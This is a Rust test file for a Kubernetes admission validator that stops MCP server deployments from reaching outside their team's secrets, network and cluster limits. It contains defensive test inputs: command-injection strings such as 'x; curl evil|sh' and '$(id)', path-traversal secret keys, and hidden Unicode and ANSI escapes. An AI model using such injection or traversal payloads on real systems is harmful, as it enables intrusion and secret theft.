use mcp_plugin_sdk::{Finding, Plugin, Request, Validator, testing};
use serde_json::{Value, json};

use crate::Tenancy;
use crate::settings::Settings;

fn judge_by(settings: Value, namespace: Value, spec: Value) -> Vec<Finding> {
    let mut manifest = json!({
        "image": { "repository": "ghcr.io/acme/mcp", "tag": "1" },
        "resources": { "limits": { "cpu": "500m", "memory": "512Mi" } },
    });
    let given = spec.as_object().unwrap().clone();
    manifest.as_object_mut().unwrap().extend(given);
    let server = testing::server(manifest);
    let settings: Settings = testing::settings(settings);
    assert_eq!(Tenancy::check_settings(&settings), []);
    Tenancy::validate(&settings, &server, &testing::request_in(namespace))
}

/// In the namespace `team-a` with one annotation, `""` for none.
fn judge(annotation: &str, value: &str, spec: &Value) -> Vec<Finding> {
    let name = format!("mcp.litellm.ai/{annotation}");
    let annotations = if annotation.is_empty() {
        json!({})
    } else {
        json!({ name: value })
    };
    let namespace = json!({ "name": "team-a", "labels": {}, "annotations": annotations });
    judge_by(json!({}), namespace, spec.clone())
}

fn secret(key: &str) -> Value {
    json!({ "secrets": [{ "name": "token", "awsSecretKey": key }] })
}

fn store(store: Value) -> Value {
    json!({ "secrets": [{ "name": "token", "awsSecretKey": "team-a/token" }], "secretStore": store })
}

fn role(role: &str) -> Value {
    json!({ "aws": { "iamRole": role } })
}

fn groups(groups: &[&str]) -> Value {
    json!({ "litellm": { "allowedUserGroups": groups } })
}

fn remote(url: &str) -> Value {
    json!({ "remote": { "url": url } })
}

fn egress(cidrs: &[&str]) -> Value {
    let rules: Vec<Value> = cidrs.iter().map(|cidr| json!({ "cidr": cidr })).collect();
    json!({ "networkPolicy": { "enabled": true, "egress": rules } })
}

fn traces(endpoint: &str) -> Value {
    json!({
        "networkPolicy": { "enabled": true },
        "observability": { "tracing": { "enabled": true, "jaegerEndpoint": endpoint } },
    })
}

fn limits(name: &str, quantity: &str) -> Value {
    json!({ "resources": { "limits": { "cpu": "1", "memory": "1Gi", name: quantity } } })
}

fn description(text: &str) -> Value {
    json!({ "litellm": { "description": text } })
}

/// A rule, what it refuses and where, and the annotation that allows it.
struct Case {
    code: &'static str,
    field: &'static str,
    refused: Value,
    annotation: &'static str,
    allowing: &'static str,
    malformed: &'static str,
}

fn cases() -> Vec<Case> {
    let case = |code, field, refused, annotation, allowing, malformed| Case {
        code,
        field,
        refused,
        annotation,
        allowing,
        malformed,
    };
    vec![
        case(
            "secret-key-scope",
            "spec.secrets[0].awsSecretKey",
            secret("team-b/prod/db-password"),
            "secret-keys",
            "<namespace>/*, team-b/prod/*",
            "team-b/*,",
        ),
        case(
            "secret-store",
            "spec.secretStore.name",
            store(json!({ "name": "finance", "kind": "ClusterSecretStore" })),
            "secret-stores",
            "finance",
            ",finance",
        ),
        case(
            "iam-role",
            "spec.aws.iamRole",
            role("arn:aws:iam::111122223333:role/payments"),
            "iam-roles",
            "arn:aws:iam::111122223333:role/*",
            "arn:aws:iam::111122223333:role/*,,",
        ),
        case(
            "access-group",
            "spec.litellm.allowedUserGroups[0]",
            groups(&["finance"]),
            "access-groups",
            "team-a,finance",
            "finance,,team-a",
        ),
        case(
            "remote-host",
            "spec.remote.url",
            remote("https://mcp.example.com/mcp"),
            "remote-hosts",
            "mcp.acme.example, *.example.com",
            "*.example.com,,",
        ),
        case(
            "remote-host",
            "spec.remote.url",
            remote("https://mcp.example.com:8443/mcp"),
            "remote-hosts",
            "mcp.example.com:*",
            ",mcp.example.com:8443",
        ),
        case(
            "remote-host",
            "spec.litellm.auth.tokenUrl",
            json!({ "litellm": { "auth": { "type": "oauth2ClientCredentials", "tokenUrl": "https://login.example.com/token" } } }),
            "remote-hosts",
            "login.example.com",
            "login.example.com,",
        ),
        case(
            "egress",
            "spec.networkPolicy.egress[0].cidr",
            egress(&["0.0.0.0/0"]),
            "egress",
            "0.0.0.0/0",
            "0.0.0.0/0,everything",
        ),
        case(
            "egress",
            "spec.networkPolicy.egress[0].cidr",
            egress(&["::/0"]),
            "egress",
            "0.0.0.0/0, ::/0",
            "::/0,10.0.0.0/33",
        ),
        case(
            "trace-egress",
            "spec.observability.tracing.jaegerEndpoint",
            traces("http://x.kube-system:10250"),
            "tracing-namespaces",
            "kube-*",
            "kube-system,",
        ),
        case(
            "replica-limit",
            "spec.replicas",
            json!({ "replicas": 21 }),
            "max-replicas",
            "21",
            "many",
        ),
        case(
            "replica-limit",
            "spec.autoscaling.maxReplicas",
            json!({ "autoscaling": { "maxReplicas": 50 } }),
            "max-replicas",
            "50",
            "1e2",
        ),
        case(
            "resource-limit",
            "spec.resources.limits[cpu]",
            limits("cpu", "9"),
            "max-cpu",
            "9000m",
            "nine",
        ),
        case(
            "resource-limit",
            "spec.resources.limits[memory]",
            limits("memory", "17Gi"),
            "max-memory",
            "1Ti",
            "lots",
        ),
        case(
            "resource-limit",
            "spec.resources.limits[ephemeral-storage]",
            limits("ephemeral-storage", "1Ti"),
            "max-ephemeral-storage",
            "1Ti",
            "",
        ),
        case(
            "extended-resource",
            "spec.resources.limits[nvidia.com/gpu]",
            limits("nvidia.com/gpu", "1"),
            "extended-resources",
            "nvidia.com/*",
            ",nvidia.com/*",
        ),
        case(
            "resource-limit",
            "spec.emptyDirs",
            json!({ "emptyDirs": [{ "mountPath": "/a", "sizeLimit": "33Gi" }, { "mountPath": "/b", "sizeLimit": "32Gi" }] }),
            "max-ephemeral-storage",
            "65Gi",
            "some",
        ),
        case(
            "service-account",
            "spec.serviceAccountName",
            json!({ "serviceAccountName": "cluster-reader" }),
            "service-accounts",
            "cluster-reader",
            "cluster-reader,",
        ),
        case(
            "service-account",
            "spec.automountServiceAccountToken",
            json!({ "automountServiceAccountToken": true }),
            "service-accounts",
            "mcp-*",
            "mcp-*,,",
        ),
        case(
            "priority-class",
            "spec.priorityClassName",
            json!({ "priorityClassName": "system-cluster-critical" }),
            "priority-classes",
            "system-*",
            "system-*,",
        ),
        case(
            "runtime-class",
            "spec.runtimeClassName",
            json!({ "runtimeClassName": "privileged-kata" }),
            "runtime-classes",
            "privileged-kata, gvisor",
            ",gvisor",
        ),
        case(
            "toleration",
            "spec.tolerations[0].key",
            json!({ "tolerations": [{ "key": "node-role.kubernetes.io/control-plane", "operator": "Exists" }] }),
            "tolerations",
            "node-role.kubernetes.io/*",
            "node-role.kubernetes.io/*,,",
        ),
        case(
            "toleration",
            "spec.tolerations[0].key",
            json!({ "tolerations": [{ "operator": "Exists" }] }),
            "tolerations",
            "*",
            "*,",
        ),
    ]
}

#[test]
fn each_rule_refuses_and_its_annotation_allows() {
    for case in cases() {
        let found = judge("", "", &case.refused);
        let what: Vec<_> = found
            .iter()
            .map(|finding| (finding.code.as_str(), finding.field.as_str()))
            .collect();
        assert_eq!(what, [(case.code, case.field)], "{found:?}");
        let remedy = format!(
            "`kubectl annotate namespace team-a mcp.litellm.ai/{}=",
            case.annotation
        );
        assert!(found[0].message.contains(&remedy), "{}", found[0].message);
        assert!(found[0].bad_value.is_some(), "{found:?}");

        let found = judge(case.annotation, case.allowing, &case.refused);
        assert_eq!(found, [], "{}={}", case.annotation, case.allowing);
    }
}

/// What it repeats in its error is what it accepts.
#[test]
fn the_command_of_an_error_allows_what_was_refused() {
    for case in cases() {
        let message = judge("", "", &case.refused).remove(0).message;
        let (_, command) = message
            .split_once(&format!("mcp.litellm.ai/{}=", case.annotation))
            .unwrap();
        let value = command.trim_end_matches('`').trim_matches('\'');
        assert_eq!(
            judge(case.annotation, value, &case.refused),
            [],
            "{message}"
        );
    }
}

#[test]
fn an_annotation_that_cannot_be_read_allows_nothing() {
    for case in cases() {
        let found = judge(case.annotation, case.malformed, &case.refused);
        assert!(!found.is_empty(), "{}={}", case.annotation, case.malformed);
        let name = format!(
            "must mend the annotation mcp.litellm.ai/{} of the namespace team-a",
            case.annotation
        );
        assert!(found[0].message.contains(&name), "{}", found[0].message);
    }
}

/// Neither does one that is empty, nor one of another namespace's values.
#[test]
fn an_annotation_that_lists_something_else_allows_nothing() {
    for case in cases() {
        let other = match case.annotation {
            "egress" => "10.0.0.0/8",
            "max-replicas" | "max-cpu" | "max-memory" | "max-ephemeral-storage" => "1",
            _ => "other",
        };
        let found = judge(case.annotation, other, &case.refused);
        assert!(
            found.iter().any(|finding| finding.code == case.code),
            "{}",
            case.annotation
        );
        let overwrites = found
            .iter()
            .any(|finding| finding.message.contains("--overwrite"));
        assert!(overwrites, "{found:?}");
    }
    for (annotation, spec) in [
        ("secret-keys", secret("team-a/token")),
        ("access-groups", groups(&["team-a"])),
        ("egress", egress(&["10.0.0.0/8"])),
    ] {
        assert_eq!(judge(annotation, " ", &spec).len(), 1, "{annotation}");
    }
}

#[test]
fn trusted_namespaces_pass() {
    let labelled = json!({ "trustedNamespaceLabels": { "platform": "yes", "env": "prod" } });
    for case in cases() {
        let namespace = |name: &str, labels: Value| json!({ "name": name, "labels": labels, "annotations": {} });
        let litellm = namespace("litellm", json!({}));
        assert_eq!(
            judge_by(json!({}), litellm.clone(), case.refused.clone()),
            []
        );
        let both = namespace(
            "ai",
            json!({ "platform": "yes", "env": "prod", "other": "" }),
        );
        assert_eq!(judge_by(labelled.clone(), both, case.refused.clone()), []);
        let one = namespace("ai", json!({ "platform": "yes" }));
        assert!(!judge_by(labelled.clone(), one, case.refused.clone()).is_empty());
        let none = json!({ "trustedNamespaces": [] });
        assert!(!judge_by(none, litellm, case.refused.clone()).is_empty());
    }
}

#[test]
fn without_annotations_a_team_has_what_is_its_own() {
    for spec in [
        json!({}),
        secret("team-a/token"),
        secret("team-a/prod/db/password"),
        json!({ "secrets": [{ "name": "by-hand", "optional": true }] }),
        store(json!({ "name": "vault", "kind": "SecretStore" })),
        store(json!({ "kind": "SecretStore" })),
        store(json!({ "refreshInterval": "5m" })),
        store(json!({ "name": "aws-secrets-manager", "kind": "ClusterSecretStore" })),
        groups(&["team-a"]),
        egress(&[
            "10.0.0.0/8",
            "172.16.0.0/12",
            "192.168.0.0/16",
            "140.82.112.0/20",
            "2001:db8::/32",
        ]),
        traces("http://otel:4318"),
        traces("http://otel.team-a.svc.cluster.local:4318"),
        traces("https://otel.example.org"),
        json!({ "observability": { "tracing": { "enabled": true, "jaegerEndpoint": "http://otel.monitoring:4318" } } }),
        json!({ "replicas": 20, "autoscaling": { "maxReplicas": 20 } }),
        limits("cpu", "8000m"),
        json!({ "emptyDirs": [{ "mountPath": "/home/a" }, { "mountPath": "/var/cache", "sizeLimit": "60Gi" }] }),
        json!({ "securityContext": { "runAsUser": 1000 }, "nodeSelector": { "pool": "mcp" }, "sessions": "None" }),
        json!({ "strategy": { "type": "Recreate" }, "automountServiceAccountToken": false }),
        description("Zürich's weather, \u{2600}\u{fe0f}:\n\tby city"),
    ] {
        assert_eq!(judge("", "", &spec), [], "{spec}");
    }
}

#[test]
fn relatives_of_what_is_refused_are_refused() {
    for (code, spec) in [
        ("secret-key-scope", secret("team-ab/token")),
        ("secret-key-scope", secret("/team-a/token")),
        ("secret-key-scope", secret("x/team-a/token")),
        ("secret-key-scope", secret("team-a/../team-b/token")),
        ("secret-key-scope", secret("team-a//token")),
        ("secret-key-scope", secret("team-a/%2e%2e/team-b")),
        ("secret-key-scope", secret("team-a\\..\\team-b")),
        ("secret-key-scope", secret("*")),
        (
            "secret-key-scope",
            secret("arn:aws:secretsmanager:us-east-1:1:secret:team-a/token"),
        ),
        (
            "secret-key-scope",
            json!({ "secrets": [{ "name": "a", "awsSecretKey": "team-b/x", "optional": true }] }),
        ),
        ("secret-store", store(json!({ "name": "finance" }))),
        (
            "secret-store",
            store(json!({ "kind": "ClusterSecretStore" })),
        ),
        ("access-group", groups(&["team-a", "Team-a"])),
        ("egress", egress(&["0.0.0.0/7"])),
        ("egress", egress(&["1.2.3.4/0"])),
        ("egress", egress(&["fd00::/8"])),
        ("egress-cidr", egress(&["10.0.0.0"])),
        ("egress-cidr", egress(&["::ffff:0.0.0.0/96"])),
        (
            "trace-egress",
            traces("http://user@x.kube-system.svc.corp.internal.:10250/v1"),
        ),
        (
            "extended-resource",
            json!({ "resources": { "requests": { "hugepages-2Mi": "2Mi" } } }),
        ),
        (
            "resource-limit",
            json!({ "resources": { "requests": { "memory": "1e13" } } }),
        ),
        (
            "service-account",
            json!({ "serviceAccountName": "mcp-test", "automountServiceAccountToken": true }),
        ),
        (
            "toleration",
            json!({ "tolerations": [{ "key": "pool", "value": "mcp" }] }),
        ),
        (
            "resource-limit",
            json!({ "emptyDirs": [{ "mountPath": "/a", "sizeLimit": "1e30" }] }),
        ),
        ("resource-limit", limits("cpu", "1e30")),
        ("description-text", description("a\u{202e}b")),
        ("description-text", description("a\u{200b}")),
        (
            "description-text",
            json!({ "litellm": { "instructions": "a\u{e0041}" } }),
        ),
        ("description-text", description("a\u{e0041}")),
        ("description-text", description("a\u{1b}[31m")),
    ] {
        let found = judge("", "", &spec);
        assert!(
            !found.is_empty() && found.iter().all(|finding| finding.code == code),
            "{spec}: {found:?}"
        );
    }
}

/// `0.0.0.0/1` and `128.0.0.0/1` are `0.0.0.0/0`, and so are 256 ranges of the widest that is allowed.
#[test]
fn the_internet_in_pieces_is_the_internet() {
    assert_eq!(
        judge("", "", &egress(&["0.0.0.0/1", "128.0.0.0/1"])).len(),
        2
    );
    let pieces = |count: u8| {
        (0..count)
            .map(|i| format!("{i}.0.0.0/8"))
            .collect::<Vec<_>>()
    };
    let judge = |pieces: &[String]| {
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        judge("", "", &egress(&pieces)).len()
    };
    assert_eq!(
        (judge(&pieces(4)), judge(&pieces(5)), judge(&pieces(64))),
        (0, 5, 64)
    );
    let with_all = [pieces(4), vec!["0.0.0.0/0".to_owned()]].concat();
    assert_eq!(judge(&with_all), 1, "the others are narrow");
    let same = vec!["10.0.0.0/8".to_owned(); 8];
    assert_eq!(judge(&same), 0, "for other ports");
}

#[test]
fn a_namespace_that_is_not_known_is_refused() {
    let server = testing::server(json!({ "image": { "repository": "ghcr.io/acme/mcp" } }));
    let settings: Settings = testing::settings(json!({ "trustedNamespaces": ["", "default"] }));
    for request in [
        Request::default(),
        testing::request_in(Value::Null),
        testing::request_in(json!({})),
    ] {
        let found = Tenancy::validate(&settings, &server, &request);
        assert_eq!((found.len(), found[0].code.as_str()), (1, "namespace"));
    }
}

/// An error is copied by somebody with more rights than who wrote the value.
#[test]
fn no_value_becomes_a_part_of_a_shells_command() {
    for key in ["x; curl evil|sh", "x'$(id)'", "x`id`", "x\ny", "a,b c"] {
        let message = judge("", "", &secret(key)).remove(0).message;
        assert!(!message.contains("kubectl"), "{message}");
    }
}

/// What tolerates every taint is more than what a pattern of keys names.
#[test]
fn a_toleration_without_a_key_is_for_every_taint() {
    let every = json!({ "tolerations": [{ "operator": "Exists" }] });
    for keys in ["pool", "node-role.kubernetes.io/*", "a*"] {
        assert_eq!(judge("tolerations", keys, &every).len(), 1, "{keys}");
    }
    let account = |annotation| {
        judge(
            "service-accounts",
            annotation,
            &json!({ "automountServiceAccountToken": true }),
        )
    };
    assert_eq!(account("mcp-other").len(), 1);
    assert_eq!(account("mcp-test"), []);
}

#[test]
fn the_platform_decides_for_all_namespaces() {
    let pods = json!({ "priorityClasses": ["low"], "runtimeClasses": ["gvisor"], "tolerations": ["pool"] });
    let asked = json!({ "priorityClassName": "low", "runtimeClassName": "gvisor", "tolerations": [{ "key": "pool", "operator": "Exists" }] });
    let team = json!({ "name": "team-a", "labels": {}, "annotations": {} });
    assert_eq!(judge_by(pods, team, asked), []);
    let namespace = json!({ "name": "team-a", "labels": {}, "annotations": {} });
    let judge = |settings: Value, spec: Value| {
        let found = judge_by(settings, namespace.clone(), spec);
        found
            .into_iter()
            .map(|finding| finding.field)
            .collect::<Vec<_>>()
    };
    let own = json!({ "secretKeys": ["mcp/<namespace>/*"], "egress": ["10.0.0.0/8"], "iamRoles": ["arn:aws:iam::*:role/<namespace>-*"] });
    assert!(judge(own.clone(), secret("mcp/team-a/token")).is_empty());
    assert!(judge(own.clone(), role("arn:aws:iam::1:role/team-a-mcp")).is_empty());
    assert!(judge(own.clone(), egress(&["10.1.0.0/16"])).is_empty());
    assert_eq!(
        judge(own.clone(), egress(&["11.0.0.0/16"])),
        ["spec.networkPolicy.egress[0].cidr"]
    );
    assert_eq!(
        judge(own, secret("team-a/token")),
        ["spec.secrets[0].awsSecretKey"]
    );
    let no_store = json!({ "defaultSecretStore": false, "clusterSecretStores": [] });
    assert_eq!(
        judge(no_store.clone(), secret("team-a/token")),
        ["spec.secretStore"]
    );
    assert!(judge(no_store.clone(), json!({})).is_empty());
    let named = store(json!({ "name": "aws-secrets-manager" }));
    assert_eq!(judge(no_store, named), ["spec.secretStore.name"]);
    let policy = json!({ "requireNetworkPolicy": true });
    for without in [json!({}), json!({ "networkPolicy": { "enabled": false } })] {
        let fields = judge(policy.clone(), without);
        assert_eq!(fields, ["spec.networkPolicy.enabled"]);
    }
    assert!(judge(policy, json!({ "networkPolicy": { "enabled": true } })).is_empty());
    let off = json!({ "disabledRules": ["iam-role"] });
    assert!(judge(off, role("arn:aws:iam::1:role/x")).is_empty());
}

#[test]
fn settings_are_validated() {
    let settings: Settings = testing::settings(json!({
        "secretKeys": [""], "egress": ["10.0.0.0"], "maxCpu": "many", "maxReplicas": 0, "disabledRules": ["egres"],
    }));
    let fields: Vec<_> = Tenancy::check_settings(&settings)
        .into_iter()
        .map(|finding| finding.field)
        .collect();
    assert_eq!(
        fields,
        [
            "secretKeys[0]",
            "egress[0]",
            "maxCpu",
            "maxReplicas",
            "disabledRules[0]"
        ]
    );
}
